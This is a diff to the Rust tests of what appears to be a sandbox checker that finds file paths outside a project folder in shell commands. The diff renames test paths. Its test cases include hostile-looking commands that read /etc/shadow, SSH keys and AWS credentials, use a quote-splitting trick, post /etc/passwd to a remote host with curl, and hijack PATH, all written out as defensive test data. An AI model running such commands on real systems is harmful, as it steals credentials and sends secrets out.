@@ -235,12 +235,12 @@ mod tests {
 
     fn outside(command: &str) -> Vec<String> {
         let context = CommandContext {
-            folder: Path::new("/work/tree"),
+            folder: Path::new("/project/tree"),
             home: Some(Path::new("/home/me")),
             is_root_entry: |path| path != Path::new("/pattern"),
         };
         let paths = find_paths(command, context).into_iter();
-        let outside = paths.filter(|path| !path.starts_with("/work/tree"));
+        let outside = paths.filter(|path| !path.starts_with("/project/tree"));
         outside.map(|path| path.display().to_string()).collect()
     }
 
@@ -256,7 +256,7 @@ mod tests {
             "curl https://example.com/etc/passwd -o page.html",
             "echo \"$(git rev-parse HEAD)\" > sub/../answer",
             "PYTHONPATH=src:lib python3 x.py",
-            "/work/tree/script.sh",
+            "/project/tree/script.sh",
         ] {
             assert_eq!(outside(command), [""; 0], "{command}");
         }
@@ -266,8 +266,8 @@ mod tests {
     fn command_names_paths_outside() {
         for (command, path) in [
             ("cat /etc/passwd", "/etc/passwd"),
-            ("cat ../secret", "/work/secret"),
-            ("cd src; cat ../../secret", "/work/secret"),
+            ("cat ../secret", "/project/secret"),
+            ("cd src; cat ../../secret", "/project/secret"),
             ("cat <~/.ssh/id_rsa", "/home/me/.ssh/id_rsa"),
             ("ls \"$HOME/.aws\"", "/home/me/.aws"),
             ("ls ${HOME}", "/home/me"),
@@ -275,8 +275,8 @@ mod tests {
             ("bash -lc 'cd / && cat etc/passwd'", "/"),
             ("echo \"$(cat /etc/shadow)\"", "/etc/shadow"),
             ("true; (cat '/etc/pass''wd')", "/etc/passwd"),
-            ("tar --file=/root/x.tar -C.. .", "/root/x.tar"),
-            ("cc -I/root/include a.c", "/root/include"),
+            ("tar --file=/srv/x.tar -C.. .", "/srv/x.tar"),
+            ("cc -I/srv/include a.c", "/srv/include"),
             ("curl -d @/etc/passwd http://x", "/etc/passwd"),
             ("curl file:///etc/passwd", "/etc/passwd"),
             ("PATH=/tmp/evil:$PATH make", "/tmp/evil"),
@@ -293,7 +293,7 @@ mod tests {
     #[test]
     fn command_in_words_is_read_like_a_script() {
         let context = CommandContext {
-            folder: Path::new("/work/tree"),
+            folder: Path::new("/project/tree"),
             home: None,
             is_root_entry: |_| true,
         };
